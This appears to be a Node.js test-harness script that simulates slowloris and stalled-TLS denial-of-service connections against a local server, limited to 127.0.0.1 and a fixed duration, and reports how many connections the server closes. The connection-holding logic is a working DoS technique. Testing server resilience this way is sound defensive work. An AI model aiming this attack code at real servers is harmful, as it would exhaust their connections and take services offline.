/**
 * The attackers, in their own process: slowloris (TLS established, then a request head that
 * never ends: one more header line every 5 s) and stalled TLS (TCP connected to the TLS port,
 * then nothing, or the first bytes of a ClientHello and nothing more), opened alternately at
 * a steady rate while fewer than `max` are open. 127.0.0.1 only; stops by itself after
 * `seconds` and closes everything it opened.
 *
 *   node attacker.mjs <port> <rate per s> <max open> <seconds> [mixed|stalled]
 *
 * `stalled` opens only stalled TLS connections (slowhttptest plays slowloris beside it).
 *
 * Reports `{ type: 'sample', open, slowloris, stalled, opened, closedByServer }` every second.
 */
import net from 'node:net'
import tls from 'node:tls'
import { HOST } from './common.mjs'

const [port, rate, max, seconds] = process.argv.slice(2, 6).map(Number)
const onlyStalled = process.argv[6] === 'stalled'
const PARTIAL_CLIENT_HELLO = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc])

const open = { slowloris: new Set(), stalled: new Set() }
let opened = 0
let closedByServer = 0
let stopping = false
let n = 0

function track(kind, socket) {
  opened++
  open[kind].add(socket)
  socket.on('error', () => {})
  socket.on('close', () => {
    open[kind].delete(socket)
    if (!stopping) closedByServer++
  })
}

function openOne() {
  if (open.slowloris.size + open.stalled.size >= max) return
  if (!onlyStalled && n++ % 2 === 0) {
    const socket = tls.connect({ port, host: HOST, rejectUnauthorized: false })
    socket.once('secureConnect', () => socket.write(`GET / HTTP/1.1\r\nHost: ${HOST}\r\n`))
    track('slowloris', socket)
  } else {
    if (onlyStalled) n++
    const socket = net.connect(port, HOST)
    if (n % (onlyStalled ? 2 : 4) === 0)
      socket.once('connect', () => socket.write(PARTIAL_CLIENT_HELLO))
    track('stalled', socket)
  }
}

// A steady rate: every 10 ms, that tick's share of `rate`.
let credit = 0
const opener = setInterval(() => {
  credit += rate / 100
  while (credit >= 1) {
    credit--
    openOne()
  }
}, 10)

// Slowloris keeps each head alive with one more header line every 5 s.
const trickle = setInterval(() => {
  for (const socket of open.slowloris) if (socket.writable) socket.write('X-a: b\r\n')
}, 5_000)

let lastCpu = process.cpuUsage()
const reporter = setInterval(() => {
  const cpu = process.cpuUsage(lastCpu)
  lastCpu = process.cpuUsage()
  process.send({
    cpu: (cpu.user + cpu.system) / 1e6,
    type: 'sample',
    open: open.slowloris.size + open.stalled.size,
    slowloris: open.slowloris.size,
    stalled: open.stalled.size,
    opened,
    closedByServer,
  })
}, 1_000)

function stop() {
  stopping = true
  clearInterval(opener)
  clearInterval(trickle)
  clearInterval(reporter)
  for (const set of Object.values(open)) for (const socket of set) socket.destroy()
  setTimeout(() => process.exit(0), 200)
}
setTimeout(stop, seconds * 1000)
process.on('disconnect', stop)
process.on('SIGTERM', stop)
process.send({ type: 'ready' })
